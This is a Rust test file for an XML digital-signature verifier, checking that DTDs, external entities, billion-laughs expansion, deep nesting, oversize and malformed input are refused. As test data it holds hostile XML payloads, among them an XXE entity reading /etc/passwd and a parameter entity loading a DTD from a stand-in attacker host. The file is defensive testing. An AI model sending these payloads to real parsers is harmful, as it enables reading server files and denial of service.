//! Input that must be refused before any signature processing: DTDs and entities, absurd
//! nesting or size, and bytes that are not XML.

use digigate_documents::signature::{verify, TrustStore, MAX_DOCUMENT_BYTES};

use super::fixtures::*;

#[test]
fn a_doctype_is_refused_even_on_a_validly_signed_document() {
    let xml = signed_aadhaar();
    let with_dtd = replace(
        &xml,
        "<Certificate>",
        "<!DOCTYPE Certificate [<!ENTITY unused \"x\">]>\n<Certificate>",
    );
    assert_failed(&check(&with_dtd), "dtd_forbidden");
    let empty = replace(
        &xml,
        "<Certificate>",
        "<!DOCTYPE Certificate>\n<Certificate>",
    );
    assert_failed(&check(&empty), "dtd_forbidden");
}

#[test]
fn an_external_entity_is_refused() {
    let xml = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"#;
    assert_failed(&check(xml), "dtd_forbidden");
    let parameter =
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>"#;
    assert_failed(&check(parameter), "dtd_forbidden");
}

#[test]
fn billion_laughs_is_refused() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{prev};").repeat(10)
        ));
    }
    dtd.push_str("]>");
    let xml = format!("<?xml version=\"1.0\"?>{dtd}<lolz>&lol9;</lolz>");
    assert_failed(&check(&xml), "dtd_forbidden");
    // Without an explicit trust store too: refusals never depend on configuration.
    let verification = verify(xml.as_bytes(), &TrustStore::new(), now());
    assert_failed(&verification, "dtd_forbidden");
}

#[test]
fn deeply_nested_elements_are_refused_without_exhausting_the_stack() {
    let depth = 100_000;
    let xml = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert_failed(&check(&xml), "nesting_too_deep");
}

#[test]
fn a_document_over_the_size_limit_is_refused() {
    let padding = "A".repeat(MAX_DOCUMENT_BYTES);
    let xml = replace(&signed_aadhaar(), "<Pht>", &format!("<Pht>{padding}"));
    let verification = check(&xml);
    assert_failed(&verification, "document_too_large");
    assert_eq!(verification.report.document_sha256.len(), 64);
}

#[test]
fn bytes_that_are_not_well_formed_utf8_xml_are_malformed() {
    let mut latin1 = signed_aadhaar().into_bytes();
    latin1.push(0xE9);
    let verification = verify(&latin1, &trust(), now());
    assert_failed(&verification, "malformed_xml");
    for text in [
        "",
        "not xml",
        "<a><b></a>",
        "<a>&undefined;</a>",
        "<a/><b/>",
    ] {
        assert_failed(&check(text), "malformed_xml");
    }
}

#[test]
fn an_html_error_page_served_instead_of_xml_is_not_verified() {
    assert_failed(
        &check("<html><body>Gateway timeout</body></html>"),
        "no_signature",
    );
    assert_failed(&check("<html><body><br></body></html>"), "malformed_xml");
}

#[test]
fn a_byte_order_mark_before_a_signed_document_is_accepted() {
    let xml = format!("\u{feff}{}", signed_aadhaar());
    assert_verified(&check(&xml));
}
